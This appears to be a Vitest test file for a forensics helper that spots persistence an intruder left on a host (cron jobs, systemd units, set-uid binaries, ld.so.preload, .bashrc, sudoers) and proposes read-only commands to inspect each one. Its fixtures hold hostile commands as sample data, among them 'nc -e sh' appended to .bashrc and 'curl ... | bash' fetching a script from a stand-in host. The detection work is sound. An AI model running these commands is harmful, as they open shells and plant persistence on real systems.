import { describe, expect, test } from 'vitest';
import type { StepDraft } from '../draft.ts';
import { inspectLeft } from './left.ts';

const step = (text: string, given: Partial<StepDraft> = {}, fields: object = {}) =>
  ({ kind: 'command', text, user: 'anna', asUser: '', outcome: 'unknown', noted: { fields }, ...given }) as StepDraft;
const sudo = (text: string) => step(text, { kind: 'sudo', asUser: 'root' });

/** Place and command, for one step or several. */
function left(...steps: StepDraft[]): (string | undefined)[] {
  const [action] = inspectLeft('web', steps);
  return [action?.target, action?.command];
}

describe('what an intruder left to come back by', () => {
  test.each([
    [sudo('/usr/bin/tee /etc/cron.d/sync'), '/etc/cron.d/sync', 'cat -v /etc/cron.d/sync'],
    [step('echo "* * * * * x" >> /var/spool/cron/root'), '/var/spool/cron/root', 'cat -v /var/spool/cron/root'],
    [step('(crontab -l; echo "@reboot /x") | crontab -'), 'the crontab of anna', 'crontab -l -u anna'],
    [step('sudo crontab /tmp/jobs'), 'the crontab of root', 'crontab -l -u root'],
    [sudo('/usr/bin/crontab -u www-data /tmp/jobs'), 'the crontab of www-data', 'crontab -l -u www-data'],
    [
      step('', { kind: 'cron', asUser: 'root' }, { 'event.action': 'crontab_replaced' }),
      'the crontab of root',
      'crontab -l -u root',
    ],
    [sudo('/bin/systemctl enable --now netd.service'), 'the service netd', 'systemctl cat netd'],
    [sudo('/bin/cp netd.service /etc/systemd/system/netd.service'), 'the service netd', 'systemctl cat netd'],
    [sudo('/bin/chmod u+s /usr/bin/find'), '/usr/bin/find (set-uid)', 'ls -l /usr/bin/find'],
    [step('echo /lib/x.so > /etc/ld.so.preload'), '/etc/ld.so.preload', 'cat -v /etc/ld.so.preload'],
    [step('echo "nc -e sh" >> ~/.bashrc'), '/home/anna/.bashrc', 'cat -v /home/anna/.bashrc'],
    [sudo('/usr/bin/tee /etc/sudoers.d/anna'), '/etc/sudoers.d/anna', 'cat -v /etc/sudoers.d/anna'],
    [step("echo x > '/etc/cron.d/a b'"), '/etc/cron.d/a b', "cat -v '/etc/cron.d/a b'"],
  ])('%j', (given, place, look) => expect(left(given)).toEqual([place, look]));

  test.each([
    sudo('/usr/bin/crontab -l'),
    sudo('/bin/systemctl restart nginx'),
    sudo('/bin/chmod 755 /usr/bin/find'),
    sudo('/usr/bin/tee /etc/motd'),
    step('echo x > .bashrc.bak'),
    step('sudo tee /etc/cron.d/sync', { outcome: 'failure' }),
    step('', { kind: 'cron', asUser: 'root' }, { 'event.action': 'crontab_deleted' }),
    step('/usr/bin/backup', { kind: 'cron' }, { 'process.command_line': '/usr/bin/backup' }),
  ])('nothing: %j', (given) => expect(inspectLeft('web', [given])).toEqual([]));

  test('a job that cron ran stands in some table', () => {
    const text = 'curl -s http://203.0.113.9/x.sh | bash';
    const [target, command] = left(step(text, { kind: 'cron' }, { 'process.command_line': text }));
    expect(target).toBe('all jobs of cron');
    expect(command).toMatch(/^grep -rs '' \/etc\/crontab .*\/var\/spool\/cron$/);
  });

  test('one thing to do for a host, each place once, and no more than can be read', () => {
    const many = Array.from({ length: 9 }, (_, at) => sudo(`/usr/bin/tee /etc/cron.d/job${at}`));
    const [target, command] = left(...many, ...many);
    expect(target).toMatch(/^\/etc\/cron\.d\/job0, .*\/etc\/cron\.d\/job5, 3 more$/);
    expect(command?.split('; ')).toHaveLength(6);
  });
});
